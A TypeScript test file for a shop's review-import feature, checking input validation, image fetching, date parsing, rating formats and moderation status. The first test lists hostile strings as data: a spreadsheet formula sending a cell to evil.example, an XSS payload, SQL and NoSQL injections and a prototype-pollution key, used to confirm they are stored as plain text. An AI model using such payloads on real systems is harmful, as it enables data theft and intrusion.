import { files } from '@wix/media'
import { expect, test } from 'vitest'
import { aProduct } from '../../support/shop/builders.ts'
import { aShop, ownerClient, type TestShop } from '../../support/shop/shop.ts'
import { until } from '../../support/until.ts'
import { server, pictures, path, bring, check, reviewsOf, line, holdSlowPicture, setUp } from './review-imports-set-up.ts'

setUp()

const trashOf = async (shop: TestShop) =>
  (await ownerClient(shop, { files }).files.listDeletedFiles()).files!.map(({ _id }) => _id)

test('hostile lines are texts and nothing else, and too many of them are refused', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const hostile = [
    '=HYPERLINK("https://evil.example?x="&A1)',
    '<img src=x onerror=alert(1)>',
    "'); drop table review; --",
    '\u202Ereversed\u2066',
    '\u00FF\u00FEd\u00C3\u00A4\uFFFD',
    '{"$ne": null}',
    '__proto__',
  ]
  const lines = hostile.map((text, at) => line(product, { title: text, author: text, email: text, externalId: `${at}${text}` }))
  expect((await bring(shop, lines)).reviewImport).toMatchObject({ added: hostile.length, refused: 0 })
  expect((await reviewsOf(shop)).map(({ content }) => content.title).toSorted()).toEqual(hostile.toSorted())

  const send = (body: object) => shop.owner('POST', path, { fileName: 'reviews.csv', lines: [], ...body })
  const wide = { ...line(product), ...Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`column${at}`, 'x'])) }
  const wrong: object[] = [
    { lines: Array.from({ length: 501 }, () => line(product)) },
    { lines: [line(product, { body: 'x'.repeat(10_001) })] },
    { lines: [line(product, { title: 'with \0 in it' })] },
    { lines: [line(product, { title: '\uD800' })] },
    { lines: [line(product, { rating: { toString: '5' } })] },
    { lines: [[]] },
    { lines: ['product,rating'] },
    { lines: 'product,rating' },
    { fileName: 'x'.repeat(201) },
    { fileName: '' },
    { source: 'OTHER' },
    { importId: 'x' },
  ]
  const answers: unknown[] = []
  for (const body of wrong) answers.push((await send(body)).status)
  expect(answers).toEqual(wrong.map(() => 400))
  // Columns that nobody asked for are nobody's.
  expect([200, 400]).toContain((await send({ lines: [wide], start: true })).status)
  await server.app.drain()
  expect((await reviewsOf(shop)).length).toBeLessThanOrEqual(hostile.length + 1)
})

test('the images of new reviews are fetched by the media library, each with its result, and the check names them before', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const given = `${pictures}/picture, ${pictures}/page.jpg,${pictures}/gone.jpg http://10.0.0.1/private.jpg no-address`
  const lines = [line(product), line(product, { author: 'Bert', email: null, pictures: given })]
  const urls = given.split(/[, ]+/)
  const checked = await shop.owner('POST', `${path}/check`, { lines })
  expect(checked.body.pictures).toEqual(
    urls.map((url) => ({ index: 1, url, ...(url === 'no-address' && { problem: 'NO_WEB_ADDRESS' }) })),
  )
  const { reviewImport } = await bring(shop, lines)
  for (let round = 0; round < 3; round++) await server.app.drain()
  const ended = (await shop.owner('GET', `${path}/${reviewImport.id}`)).body
  const results = new Map(ended.pictures.map(({ url, state, failure }: any) => [url, { state, failure }]))
  const failed = { state: 'FAILED', failure: expect.any(String) }
  expect([...results.keys()].toSorted()).toEqual(urls.toSorted())
  expect(urls.map((url) => results.get(url))).toEqual([
    { state: 'ADDED', failure: undefined },
    failed,
    failed,
    failed,
    { state: 'FAILED', failure: 'NO_WEB_ADDRESS' },
  ])
  const shown = (await reviewsOf(shop)).find(({ author }) => author.authorName === 'Bert')
  expect(shown.content.media).toMatchObject([{ image: { id: expect.stringMatching(/\.jpg$/) } }])
  expect((await fetch(`${server.url}/media/${shown.content.media[0].image.id}`)).status).toBe(200)

  // The same file adds nothing twice, and an image that came later does not stand in the way of an undo.
  expect((await bring(shop, lines)).reviewImport).toMatchObject({ added: 0, unchanged: 2 })
  const fetched = shown.content.media[0].image.id
  await shop.owner('POST', `${path}/${reviewImport.id}/undo`, {})
  await server.app.drain()
  expect(await reviewsOf(shop)).toEqual([])
  expect(await trashOf(shop)).toEqual([fetched])

  // An image that is also used elsewhere stays.
  const again = (await bring(shop, lines)).reviewImport
  for (let round = 0; round < 3; round++) await server.app.drain()
  const [next] = (await reviewsOf(shop)).flatMap(({ content }) => content.media ?? [])
  await aProduct(shop, { pictures: [{ id: next.image.id }] })
  await shop.owner('POST', `${path}/${again.id}/undo`, {})
  await server.app.drain()
  expect(await reviewsOf(shop)).toEqual([])
  expect(await trashOf(shop)).toEqual([fetched])
})

test('an import that is undone while its images are still fetched leaves none of them in the library', async () => {
  const shop = await aShop(server)
  const lines = [line(await aProduct(shop), { pictures: `${pictures}/slow` })]
  const { promise, resolve: answer } = Promise.withResolvers<void>()
  holdSlowPicture(promise)
  const { body } = await shop.owner('POST', path, { fileName: 'reviews.csv', lines, start: true })
  const importPath = `${path}/${body.reviewImport.id}`
  const working = server.app.drain()
  await until(async () => (await shop.owner('GET', importPath)).body.reviewImport.state === 'DONE' || undefined)
  await shop.owner('POST', `${importPath}/undo`, {})
  await until(async () => (await shop.owner('GET', importPath)).body.reviewImport.state === 'UNDONE' || undefined)
  answer()
  await working
  await server.app.drain()
  expect((await ownerClient(shop, { files }).files.listFiles()).files).toEqual([])
})

test('dates are read in the stated order and the zone of the site, and what has two readings or does not exist is named', async () => {
  const shop = await aShop(server, { timeZone: 'America/New_York' })
  const product = await aProduct(shop)
  const dates = [
    '05/01/2024',
    '25/12/2023',
    '01.05.2024',
    'May 1, 2024',
    '2024-02-30',
    '31/04/2024',
    'soon',
    '01/05/24',
    '1989-01-01',
  ]
  const lines = dates.map((date, index) => line(product, { date, externalId: `${index}` }))
  const outcomes = async (dateFormat?: string) =>
    (await shop.owner('POST', `${path}/check`, { lines, ...(dateFormat && { dateFormat }) })).body.outcomes
  const rest = ['NEW', 'NEW', 'DATE_NOT_EXISTING', 'DATE_NOT_EXISTING', 'DATE_UNREADABLE', 'DATE_UNREADABLE', 'DATE_OUT_OF_RANGE']
  expect(await outcomes()).toEqual(['DATE_AMBIGUOUS', 'NEW', ...rest])
  expect(await outcomes('DMY')).toEqual(['NEW', 'NEW', ...rest])
  expect(await outcomes('MDY')).toEqual(['NEW', 'DATE_IN_OTHER_FORMAT', ...rest])

  await bring(shop, [line(product, { date: '05/01/2024' })], { dateFormat: 'DMY' })
  await bring(shop, [line(product, { rating: '4', date: '05/01/2024 10:00', externalId: '2' })], { dateFormat: 'MDY' })
  expect((await reviewsOf(shop)).map(({ reviewDate }) => reviewDate)).toEqual([
    '2024-05-01T14:00:00.000Z',
    '2024-01-05T05:00:00.000Z',
  ])
})

test('stars, pictures and texts are read as other programs write them', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const ratings = [
    '5',
    '5.0',
    '5,0',
    '5/5',
    '4 / 5',
    '★★★★★',
    '★★★☆☆',
    '⭐⭐',
    '⭐\ufe0f⭐\ufe0f',
    '3 stars',
    '4 out of 5',
    ' 1 ',
  ]
  const unreadable = ['', '0', '6', '4.5', '10/10', '5/10', '★★★★★★', '☆☆☆☆☆', 'five', '1,234', '5%', '-5', '1e0', '５５']
  const stars = (rating: string) => line(product, { rating, externalId: rating })
  expect(await check(shop, ratings.map(stars))).toEqual(ratings.map(() => 'NEW'))
  expect(await check(shop, unreadable.map(stars))).toEqual(unreadable.map(() => 'RATING_UNREADABLE'))

  const urls = ['https://a.example/1.jpg', 'https://a.example/2,3.jpg']
  const lists = [
    JSON.stringify(urls),
    JSON.stringify(urls.map((url) => ({ url }))),
    ...[',', ';', '|', '\n', ', ', ' | ', ' '].map((separator) => urls.join(separator)),
  ]
  for (const pictures of lists) {
    const { body } = await shop.owner('POST', `${path}/check`, { lines: [line(product, { pictures })] })
    expect(body.pictures).toEqual(urls.map((url) => ({ index: 0, url })))
  }

  await bring(shop, [line(product, { body: '<p>It hangs<br>straight &amp; well.</p><script>x</script>', title: 'Don&#39;t' })])
  expect((await reviewsOf(shop))[0].content).toMatchObject({ title: "Don't", body: 'It hangs\nstraight & well.' })
})

test('a status that cannot be read holds the review for moderation, with a warning', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const states = [undefined, 'published', 'Yes', '1.0', 'pending', 'no', 'FALSE', '', 'verified', 'Ja?', '2']
  const lines = states.map((state, index) =>
    line(product, { ...(state !== undefined && { state }), externalId: `${index}`, rating: '5' }),
  )
  const { body } = await shop.owner('POST', `${path}/check`, { lines })
  expect(body.warnings).toEqual([7, 8, 9, 10].map((index) => ({ index, warning: 'STATE_UNREADABLE' })))
  await bring(shop, lines)
  const held = (await reviewsOf(shop)).map(({ moderation }) => moderation.moderationStatus).toSorted()
  expect(held).toEqual([
    'APPROVED',
    'APPROVED',
    'APPROVED',
    'APPROVED',
    'IN_MODERATION',
    'IN_MODERATION',
    'IN_MODERATION',
    'IN_MODERATION',
    'IN_MODERATION',
    'REJECTED',
    'REJECTED',
  ])
})
